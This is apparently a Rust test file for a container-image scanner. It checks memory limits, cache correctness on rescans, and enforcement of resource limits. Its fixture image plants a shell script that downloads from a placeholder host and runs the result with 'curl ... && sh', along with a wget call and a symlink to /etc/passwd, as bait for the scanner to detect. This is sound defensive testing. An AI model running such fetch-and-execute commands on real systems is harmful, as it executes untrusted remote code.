//! Scale: an image of millions of files stays within a stated memory bound
//! (issue 15, defect 13), and the compact layer cache behind fast warm
//! rescans gives exactly the cold result, a damaged entry being read as a
//! miss and rescanned (issue 16).

use std::path::Path;

use stowaway::fixture::{ImageBuilder, LayerBuilder, many_empty_files};

use crate::util::{data_home, python, tmp};

/// Run the binary and return (exit code, stdout, stderr, peak RSS in KiB)
/// of that very process.
///
/// The binary is started by a small Python process that forks, execs it and
/// reads its `ru_maxrss` with `wait4`. Spawned straight from this test
/// harness it would not be measurable: the harness spawns with vfork, and
/// at `exec` Linux folds the *parent's* memory high-water mark into the
/// child's `ru_maxrss` — whatever the other tests in this process had
/// allocated at that moment (CI once read 716 MiB that way for a scan that
/// peaks near 330 MiB).
fn run_measured(args: &[&str]) -> (Option<i32>, String, String, u64) {
    const MEASURE: &str = r#"
import os, sys
pid = os.fork()
if pid == 0:
    try:
        os.execv(sys.argv[2], sys.argv[2:])
    finally:
        os._exit(127)
_, status, usage = os.wait4(pid, 0)
with open(sys.argv[1], "w") as f:
    f.write(str(usage.ru_maxrss))
code = os.waitstatus_to_exitcode(status)
sys.exit(code if code >= 0 else 128 - code)
"#;
    let t = tmp();
    let rss_file = t.path().join("maxrss");
    let bin_path = env!("CARGO_BIN_EXE_stowaway");
    let out = std::process::Command::new(python())
        .arg("-c")
        .arg(MEASURE)
        .arg(&rss_file)
        .arg(bin_path)
        .args(args)
        .env("XDG_DATA_HOME", data_home())
        .env("XDG_CONFIG_HOME", data_home().join("config"))
        .env_remove("STOWAWAY_DB")
        .env("NO_COLOR", "1")
        .output()
        .expect("run python3 to measure stowaway");
    let err = String::from_utf8_lossy(&out.stderr).into_owned();
    let rss: u64 = std::fs::read_to_string(&rss_file)
        .unwrap_or_else(|e| panic!("the measuring python3 wrote no peak RSS ({e}): {err}"))
        .trim()
        .parse()
        .expect("peak RSS is a number");
    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
    (out.status.code(), stdout, err, rss)
}

#[test]
fn issue15_two_million_empty_files_stay_within_a_stated_memory_bound() {
    let t = tmp();
    let dir = t.path().join("img");
    many_empty_files(2_000_000, 1000)
        .write_oci_layout(&dir)
        .unwrap();
    let r = format!("oci:{}", dir.display());
    let db = t.path().join("s.db");
    // With the default limits the 2,002,000 entries exceed
    // --max-image-entries (1,000,000): refused, naming the flag, having
    // held at most a million entries (about 300 bytes each; the old
    // default of 8M let this image take 1.1 GiB).
    let (code, _, err, rss) = run_measured(&["scan", &r, "--db", db.to_str().unwrap()]);
    assert_eq!(code, Some(2), "{err}");
    assert!(err.contains("--max-image-entries"), "{err}");
    // The bound catches a return of the old 1.1 GiB with room for the
    // debug build's noise (~380-400 MiB measured; it touched 402 MiB once
    // under load 14 after the command model's regex-set cache landed).
    assert!(rss < 480 * 1024, "refusing took {} MiB: {err}", rss / 1024);
    // (Raised past the limit, the same image scans in ~680 MiB with a
    // release build: benches/bench.sh many; README "Performance".)
}

fn rich_image() -> stowaway::fixture::BuiltImage {
    ImageBuilder::new()
        .layer(
            LayerBuilder::new()
                .dir("usr/bin", 0o755)
                .file(
                    "usr/bin/fetch",
                    b"#!/bin/sh\ncurl -fsSL http://x.invalid/a -o /tmp/a && sh /tmp/a\n",
                    0o755,
                )
                .file(
                    "var/lib/dpkg/status",
                    b"Package: a\nStatus: install ok installed\nVersion: 1\n",
                    0o644,
                )
                .file_bytes(b"usr/bin/odd\xff", b"\x7fELF\x02\x01\x01", 0o4755, 0, 0)
                .hardlink("usr/bin/fetch2", "usr/bin/fetch")
                .symlink("usr/bin/up", "../../../etc/passwd")
                .device("dev/mem", 'c', 1, 1)
                .fifo("run/pipe")
                .file("etc/old", b"old", 0o644)
                .file("opt/x/y", b"y", 0o644),
        )
        .layer(
            LayerBuilder::new()
                .whiteout("etc/old")
                .opaque("opt/x")
                .file(
                    "usr/bin/fetch",
                    b"#!/bin/sh\nwget http://y.invalid/b\n",
                    0o755,
                ),
        )
        .config("Entrypoint", serde_json::json!(["/usr/bin/fetch"]))
        .build()
}

fn outputs(r: &str, db: &Path, extra: &[&str]) -> (String, String) {
    let db = db.to_str().unwrap();
    let run = |cmd: &str| {
        let mut args = vec![cmd, r, "--db", db, "--format", "json"];
        args.extend(extra);
        let (code, out, err, _) = run_measured(&args);
        assert!(matches!(code, Some(0 | 1)), "{cmd}: {err}");
        // The scan's start time differs from run to run; nothing else may.
        let mut v: serde_json::Value = serde_json::from_str(&out).unwrap();
        if let Some(m) = v.as_object_mut() {
            m.remove("scanned_at");
        }
        serde_json::to_string_pretty(&v).unwrap()
    };
    (run("scan"), run("inventory"))
}

fn cache_rows(db: &Path) -> Vec<(String, Vec<u8>)> {
    rows_like(db, "layer/%")
}

/// The cached squashed views (one per image).
fn squashed_rows(db: &Path) -> Vec<(String, Vec<u8>)> {
    rows_like(db, "squashed/%")
}

fn rows_like(db: &Path, pattern: &str) -> Vec<(String, Vec<u8>)> {
    let c = rusqlite::Connection::open(db).unwrap();
    // No table yet: nothing was ever cached in this store.
    let Ok(mut s) = c.prepare(&format!(
        "SELECT key, data FROM layer_cache WHERE key LIKE '{pattern}' ORDER BY key"
    )) else {
        return Vec::new();
    };
    s.query_map([], |r| Ok((r.get(0)?, r.get(1)?)))
        .unwrap()
        .map(|r| r.unwrap())
        .collect()
}

#[test]
fn issue16_warm_rescan_gives_the_cold_result_and_a_damaged_entry_is_rescanned() {
    let t = tmp();
    let dir = t.path().join("img");
    rich_image().write_oci_layout(&dir).unwrap();
    let r = format!("oci:{}", dir.display());
    let db = t.path().join("s.db");
    let cold = outputs(&r, &db, &["--no-cache"]);
    assert!(cache_rows(&db).is_empty(), "--no-cache fills nothing");
    assert!(
        cold.0.contains("transfer-tool") || cold.0.contains("download"),
        "{}",
        cold.0
    );
    let first = outputs(&r, &db, &[]);
    let rows = cache_rows(&db);
    assert_eq!(rows.len(), 2, "one cache entry per layer");
    let squashed = squashed_rows(&db);
    assert_eq!(squashed.len(), 1, "one squashed view for the image");
    let warm = outputs(&r, &db, &[]);
    assert_eq!(first, cold);
    assert_eq!(warm, cold, "the warm rescan gives the cold result");
    // Damage each entry in turn (cut in half, one byte flipped, emptied):
    // the rescan gives the cold result and rewrites the entry whole. A
    // layer entry is read only when the squashed view is not cached.
    let c = rusqlite::Connection::open(&db).unwrap();
    let damage = |key: &str, data: &[u8], rows: &dyn Fn() -> Vec<(String, Vec<u8>)>| {
        let want = rows();
        let mut flipped = data.to_vec();
        flipped[data.len() / 2] ^= 0x55;
        for bad in [data[..data.len() / 2].to_vec(), flipped, Vec::new()] {
            if key.starts_with("layer/") {
                c.execute("DELETE FROM layer_cache WHERE key LIKE 'squashed/%'", [])
                    .unwrap();
            }
            c.execute(
                "UPDATE layer_cache SET data = ?1 WHERE key = ?2",
                rusqlite::params![bad, key],
            )
            .unwrap();
            assert_eq!(outputs(&r, &db, &[]), cold, "{key}");
            assert_eq!(rows(), want, "{key} rewritten");
            assert_eq!(
                squashed_rows(&db),
                squashed,
                "{key}: squashed view rewritten"
            );
        }
    };
    for (key, data) in &rows {
        damage(key, data, &|| cache_rows(&db));
    }
    for (key, data) in &squashed {
        damage(key, data, &|| squashed_rows(&db));
    }
    let findings = rows_like(&db, "findings/%");
    assert_eq!(findings.len(), 1, "the analyzers' findings, cached");
    for (key, data) in &findings {
        damage(key, data, &|| rows_like(&db, "findings/%"));
    }
}

#[test]
fn issue16_a_cached_squashed_view_is_not_a_way_around_the_limits() {
    let t = tmp();
    let dir = t.path().join("img");
    rich_image().write_oci_layout(&dir).unwrap();
    let r = format!("oci:{}", dir.display());
    let db = t.path().join("s.db");
    let _ = outputs(&r, &db, &[]);
    assert_eq!(squashed_rows(&db).len(), 1);
    let db = db.to_str().unwrap();
    for (flag, value) in [
        ("--max-entries", "3"),
        ("--max-image-entries", "5"),
        ("--max-layer-size", "100"),
        ("--max-image-size", "100"),
        ("--max-path-bytes", "8"),
    ] {
        let (code, _, err, _) = run_measured(&["scan", &r, "--db", db, flag, value]);
        assert_eq!(code, Some(2), "{flag}: {err}");
        assert!(err.contains(flag), "{flag}: {err}");
    }
}

/// Issue 16: a one-layer image of 150,000 empty files scans within 64 MiB
/// peak RSS, without the cache and writing it (measured through a forking
/// parent, see `run_measured`); the same findings both ways. Measured
/// 2026-11-29: release build 54.6 / 58.3 MiB, debug build 62.3 / 65.4 MiB
/// (its unoptimized code is ~8 MiB more resident): a debug build gets
/// that much room. Session 8 (a 4 MiB walk queue, the blob's hashing
/// thread): debug build 65 / 68 MiB; with a 6 MiB queue and 2 MiB worker
/// queues it reached 76 MiB once (the slow debug walk keeps them full).
#[test]
fn issue16_150k_files_scan_within_64_mib() {
    let bound = if cfg!(debug_assertions) { 72 } else { 64 } * 1024;
    let t = tmp();
    let dir = t.path().join("img");
    many_empty_files(150_000, 1000)
        .write_oci_layout(&dir)
        .unwrap();
    let r = format!("oci:{}", dir.display());
    let db = t.path().join("s.db");
    let (code, cold, err, rss) = run_measured(&["scan", &r, "--no-cache", "--format", "json"]);
    assert_eq!(code, Some(0), "{err}");
    assert!(rss < bound, "--no-cache took {} MiB", rss / 1024);
    let args = ["scan", &r, "--db", db.to_str().unwrap(), "--format", "json"];
    let (code, cached, err, rss) = run_measured(&args);
    assert_eq!(code, Some(0), "{err}");
    assert!(rss < bound, "writing the cache took {} MiB", rss / 1024);
    let findings =
        |s: &str| serde_json::from_str::<serde_json::Value>(s).unwrap()["findings"].clone();
    assert_eq!(findings(&cold), findings(&cached));
}
